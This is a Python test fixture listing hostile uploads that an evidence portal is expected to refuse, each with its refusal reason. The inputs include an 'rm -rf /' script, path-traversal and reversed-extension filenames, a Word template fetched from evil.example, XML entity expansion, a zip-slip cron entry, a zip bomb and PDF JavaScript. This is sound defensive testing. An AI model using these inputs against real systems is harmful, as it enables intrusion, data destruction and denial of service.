"""Forty files nobody should be able to send us, and what each is told."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import NamedTuple

from pypdf.actions import JavaScript

from portal.evidence.refusals import LARGEST, Refusal
from tests.evidence.files import WORD_PARTS, heic, packed, pdf, photo, word_with

EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
"""What every scanner takes for a virus, and is none."""
SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PAGE = b"<!doctype html><html><script>alert(1)</script></html>"
PROGRAM = b"MZ\x90\x00\x03" + bytes(300) + b"This program cannot be run in DOS mode"
FETCHES = (
    '<Relationships><Relationship Id="a" Type="urn:x/attachedTemplate" '
    'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
RUNS = JavaScript("this.print()")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


class Hostile(NamedTuple):
    """A file, what it is called, and why it is refused."""

    what: str
    name: str
    made: Callable[[], bytes]
    why: Refusal

    @property
    def shown(self) -> str:
        """What it is called by then."""
        return {"../../etc/passwd": "passwd", "photo\u202egpj.exe": "photo gpj.exe"}.get(
            self.name, self.name
        )


def png_of(width: int, height: int) -> bytes:
    """Says it is so large, in a few bytes."""

    def chunk(kind: bytes, told: bytes) -> bytes:
        return (
            struct.pack(">I", len(told)) + kind + told + struct.pack(">I", zlib.crc32(kind + told))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def bomb(parts: int = 1, size: int = 60 * 1024 * 1024) -> bytes:
    """A Word document that would unpack to gigabytes."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in WORD_PARTS.items():
            archive.writestr(name, text)
        for number in range(parts):
            archive.writestr(f"word/media/{number}.emf", bytes(size))
    return out.getvalue()


def locked_word() -> bytes:
    return OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(1000)


def lying_zip() -> bytes:
    """Its list of parts says less than is in them."""
    made = word_with({"word/media/1.emf": b"x" * 5000})
    return made.replace(struct.pack("<I", 5000), struct.pack("<I", 50))


def locked_zip() -> bytes:
    """Every part says that it is encrypted."""
    made = bytearray(packed({**WORD_PARTS}))
    for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(sign)
        while at != -1:
            made[at + flags] |= 1
            at = made.find(sign, at + 4)
    return bytes(made)


def pdf_within_zip_comment() -> bytes:
    """Ends as a PDF ends, and is a zip all the same."""
    inner = pdf()
    return b"%PDF-1.7\n" + packed({"a.txt": "a"}, comment=b"\n" + inner[-200:])


HOSTILE = (
    Hostile("nothing at all", "empty.jpg", lambda: b"", Refusal.EMPTY),
    Hostile("25 MB and one byte", "scan.pdf", lambda: pdf() + bytes(LARGEST), Refusal.TOO_BIG),
    Hostile("a program called a photo", "photo.jpg", lambda: PROGRAM, Refusal.UNKNOWN),
    Hostile("a program for Linux", "letter.pdf", lambda: b"\x7fELF" + bytes(99), Refusal.UNKNOWN),
    Hostile("a script", "proof.png", lambda: b"#!/bin/sh\nrm -rf /\n", Refusal.UNKNOWN),
    Hostile("a drawing with a script", "drawing.svg", lambda: SCRIPT, Refusal.UNKNOWN),
    Hostile("the same, called a photo", "drawing.png", lambda: SCRIPT, Refusal.UNKNOWN),
    Hostile("a web page", "page.pdf", lambda: PAGE, Refusal.UNKNOWN),
    Hostile("a folder in its name", "../../etc/passwd", lambda: b"root:x:0:0", Refusal.UNKNOWN),
    Hostile("two endings", "letter.pdf.exe", lambda: PROGRAM, Refusal.UNKNOWN),
    Hostile("a name that turns round", "photo\u202egpj.exe", lambda: PROGRAM, Refusal.UNKNOWN),
    Hostile("an animation", "cat.gif", lambda: b"GIF89a" + bytes(50), Refusal.UNKNOWN),
    Hostile("an archive", "all.zip", lambda: packed({"a.txt": "a"}), Refusal.UNKNOWN),
    Hostile("a spreadsheet", "pay.docx", lambda: packed({"xl/workbook.xml": "a"}), Refusal.UNKNOWN),
    Hostile("a film", "film.heic", lambda: b"\0\0\0\x18ftypisom" + bytes(99), Refusal.UNKNOWN),
    Hostile("a virus", "virus.jpg", lambda: EICAR, Refusal.UNCLEAN),
    Hostile("a virus in an archive", "virus.zip", lambda: packed({"a": EICAR}), Refusal.UNCLEAN),
    Hostile(
        "a virus in a PDF",
        "virus.pdf",
        lambda: pdf(add_attachment=("a.txt", EICAR)),
        Refusal.UNCLEAN,
    ),
    Hostile(
        "a virus in a Word document",
        "virus.docx",
        lambda: word_with({"word/media/a.jpg": EICAR}),
        Refusal.UNCLEAN,
    ),
    Hostile("a photo cut short", "photo.jpg", lambda: photo()[:300], Refusal.DAMAGED),
    Hostile("only how a photo begins", "photo.jpg", lambda: b"\xff\xd8\xff\xe0", Refusal.DAMAGED),
    Hostile("a picture cut short", "a.png", lambda: photo("PNG")[:120], Refusal.DAMAGED),
    Hostile("a picture of 4 billion dots", "a.png", lambda: png_of(65535, 65535), Refusal.VAST),
    Hostile("a picture without its dots", "a.png", lambda: png_of(900, 900), Refusal.DAMAGED),
    Hostile("a phone's photo cut short", "a.heic", lambda: heic()[:200], Refusal.DAMAGED),
    Hostile(
        "a phone's photo that is noise",
        "a.heic",
        lambda: b"\0\0\0\x18ftypheic" + bytes(range(256)) * 9,
        Refusal.DAMAGED,
    ),
    Hostile(
        "a photo that is an archive too",
        "photo.jpg",
        lambda: photo() + packed({"a.class": "a"}),
        Refusal.CARRIES,
    ),
    Hostile(
        "a photo that is a page too",
        "photo.jpg",
        lambda: photo()[:2] + b"\xff\xfe\x00\x40" + PAGE.ljust(62) + photo()[2:],
        Refusal.CARRIES,
    ),
    Hostile(
        "a photo that is a PDF too",
        "photo.jpg",
        lambda: photo()[:2] + b"\xff\xfe\x00\x12%PDF-1.7 object1" + photo()[2:],
        Refusal.CARRIES,
    ),
    Hostile("a PDF that is an archive too", "a.pdf", pdf_within_zip_comment, Refusal.CARRIES),
    Hostile("a PDF with something after it", "a.pdf", lambda: pdf() + PROGRAM, Refusal.DAMAGED),
    Hostile("a PDF cut short", "a.pdf", lambda: pdf()[:-40], Refusal.DAMAGED),
    Hostile("a PDF that runs", "a.pdf", lambda: pdf(add_open_action=(RUNS,)), Refusal.CARRIES),
    Hostile(
        "a PDF with a file in it",
        "a.pdf",
        lambda: pdf(add_attachment=("a.exe", PROGRAM)),
        Refusal.CARRIES,
    ),
    Hostile("a locked PDF", "a.pdf", lambda: pdf(encrypt=("secret",)), Refusal.LOCKED),
    Hostile("a locked Word document", "a.docx", locked_word, Refusal.LOCKED),
    Hostile("an older Word document", "a.doc", lambda: OLE + bytes(2000), Refusal.OLD_WORD),
    Hostile(
        "a Word document with macros",
        "a.docx",
        lambda: word_with({"word/vbaProject.bin": b"macros"}),
        Refusal.CARRIES,
    ),
    Hostile(
        "a Word document that fetches",
        "a.docx",
        lambda: word_with({"word/_rels/settings.xml.rels": FETCHES}),
        Refusal.CARRIES,
    ),
    Hostile(
        "a Word document that swells as it is read",
        "a.docx",
        lambda: word_with({"word/styles.xml": ENTITIES}),
        Refusal.CARRIES,
    ),
    Hostile(
        "a Word document that leaves its folder",
        "a.docx",
        lambda: word_with({"../../cron.d/a": "* * * * * root sh"}),
        Refusal.CARRIES,
    ),
    Hostile("a Word document within a program", "a.docx", locked_zip, Refusal.LOCKED),
    Hostile("a zip bomb", "a.docx", bomb, Refusal.VAST),
    Hostile("a list of parts that lies", "a.docx", lying_zip, Refusal.DAMAGED),
)
